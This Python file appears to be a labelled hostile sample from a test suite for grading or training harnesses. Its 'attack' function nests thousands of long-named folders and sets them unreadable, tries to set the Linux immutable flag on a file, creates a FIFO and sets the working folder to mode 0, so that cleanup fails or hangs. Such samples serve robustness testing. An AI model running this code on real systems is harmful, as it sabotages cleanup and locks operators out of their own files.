# attack: fills its folder with what is hard to delete: thousands of nested folders, none of which may be opened
# group: e
# targets: text tensor trainer
# ends: wrong error timeout
# control: none: a naive grader has no folder of its own to delete

import contextlib
import fcntl
import os
import struct

DEPTH = 3000
LONG = "n" * 255
"""The longest name there is: a path of seventeen of these is too long for the kernel."""
FS_IOC_SETFLAGS = 0x40086602
IMMUTABLE = 0x10


def _nest():
    """Go down a folder at a time, for a path that nobody can name; shut each one on the way back."""
    depth = 0
    with contextlib.suppress(OSError):
        while depth < DEPTH:
            os.mkdir(LONG)
            os.chdir(LONG)
            depth += 1
    for _ in range(depth):
        with contextlib.suppress(OSError):
            os.chdir("..")
            os.chmod(LONG, 0)


def _make_immutable():
    """Make a file that nobody may delete, not even root: a flag that only root may set."""
    descriptor = os.open("for-ever", os.O_CREAT | os.O_RDWR)
    with contextlib.suppress(OSError):
        fcntl.ioctl(descriptor, FS_IOC_SETFLAGS, struct.pack("l", IMMUTABLE))
    os.close(descriptor)


def attack(*args, **kwargs):
    home = os.getcwd()
    for step in (_make_immutable, _nest):
        with contextlib.suppress(OSError):
            step()
    os.mkfifo(os.path.join(home, "nobody-writes-here"))
    os.chmod(home, 0)
    return {"messages": [], "text": ""}
